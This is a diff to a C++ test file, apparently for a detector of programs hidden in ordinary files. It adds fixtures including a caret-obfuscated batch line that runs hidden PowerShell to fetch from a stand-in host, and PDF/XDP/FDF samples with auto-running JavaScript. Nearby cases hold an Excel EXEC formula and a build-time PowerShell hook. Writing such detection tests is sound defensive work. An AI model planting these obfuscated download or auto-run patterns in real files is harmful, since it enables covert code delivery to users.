@@ -81,6 +81,12 @@ TEST_CASE("programs under other names, and far down in long ones, are told") {
       {"a macro function in an Excel 2003 file", "a.xml",
        "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet><Table><Row>"
        "<Cell ss:Formula=\"=EXEC(&quot;calc.exe&quot;)\"/></Row></Table></Worksheet></Workbook>", "office.xlm.shell"},
+      {"a batch file full of carets", "a.bat", "@echo off\r\np^ow^er^sh^ell -w hidden i^w^r https://far.example.com/a\r\n", "script.shell"},
+      {"a PDF in a packet", "a.xdp",
+       "<?xml version=\"1.0\"?><xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><pdf><document><chunk>" +
+           to_base64("%PDF-1.4\n1 0 obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>\nendobj\ntrailer<</Root 1 0 R>>\n") + "</chunk></document></pdf></xdp:xdp>",
+       "pdf.javascript"},
+      {"what fills a form", "a.fdf", "%FDF-1.2\n1 0 obj\n<</FDF<</F(https://far.example.com/a.pdf)/JavaScript<</After(app.alert\\(1\\))>>>>>>\nendobj\ntrailer<</Root 1 0 R>>\n", "pdf.damaged"},
       {"a project that runs a command when it is built", "a.csproj", "<Project><Target Name=\"x\" BeforeTargets=\"Build\"><Exec Command=\"powershell -c calc\"/></Target></Project>", "script.autorun"},
       {"an ordinary project", "a.csproj", "<Project Sdk=\"Microsoft.NET.Sdk\"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>", ""},
       {"a profile for a telephone", "a.mobileconfig", "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>PayloadType</key><string>com.apple.webClip.managed</string></dict></plist>", "installer.package"},
